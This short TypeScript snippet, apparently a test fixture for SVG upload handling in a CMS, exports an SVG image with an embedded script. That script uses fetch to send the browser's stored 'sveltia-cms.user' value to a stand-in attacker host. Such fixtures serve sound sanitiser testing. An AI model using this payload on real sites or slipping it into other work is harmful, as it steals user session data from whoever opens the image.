/** A drawing that sends away what the browser stores, as soon as somebody opens it. */
export const hostileSvg = Buffer.from(
  `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><script>
fetch("https://evil.example/?" + localStorage.getItem("sveltia-cms.user"))
</script><circle r="20"/></svg>`,
);
